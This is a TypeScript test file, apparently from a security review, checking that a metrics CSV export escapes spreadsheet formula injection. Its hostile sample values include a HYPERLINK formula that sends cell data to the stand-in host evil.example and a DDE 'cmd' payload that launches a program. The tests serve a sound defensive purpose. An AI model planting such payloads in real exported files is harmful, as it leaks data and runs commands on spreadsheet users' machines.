/** Low finding: text of a node becomes a formula in a spreadsheet with an exported file. */
import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { expect, it } from 'vitest';
import { csvCell } from '../../shared/base/csv.ts';
import type { Point } from '../../shared/metrics/metrics.ts';
import { writeCsv } from '../run/artifacts/metrics-export.ts';

it('finding: no cell of metrics.csv is a formula, neither a value nor a field name', async () => {
  const folder = await mkdtemp(join(tmpdir(), 'ringlab-csv-'));
  const path = join(folder, 'metrics.csv');
  const line = {
    v: 1,
    seq: 0,
    t: 1,
    kind: '=1+1',
    loss: -0.5,
    message: `=HYPERLINK("http://evil.example?"&A1,"click")`,
    '@SUM(A1)': 'x',
    hint: '\t=2',
  };
  // A line as a hostile node writes it; the schema of a line lets fields of any name pass.
  const points = [{ source: 'rank-0', line }] as unknown as Point[];
  async function* lines(): AsyncGenerator<Point> {
    for (const point of points) yield await Promise.resolve(point);
  }
  await writeCsv(path, lines);
  const cells = (await readFile(path, 'utf8'))
    .split('\r\n')
    .flatMap((row) => row.match(/"(?:[^"]|"")*"|[^,]+/g) ?? [])
    .map((cell) => cell.replace(/^"/, ''));
  expect(cells).toContain('-0.5');
  expect(cells.filter((cell) => /^[=+@\t\r]|^-(?![\d.])/.test(cell))).toEqual([]);
  await rm(folder, { recursive: true });
});

it('finding: nor is a part of one where a semicolon or a tab separates cells', () => {
  for (const text of ["x;=cmd|' /C calc'!A0", 'x\t=1+1', 'x, y; ＠SUM(A1)'])
    expect(csvCell(text)).toMatch(/[;\t] ?'[=＠]/);
  for (const text of ['-0.5', '1e-5', '-inf', 'a;b', 'x = 1']) expect(csvCell(text)).toBe(text);
});
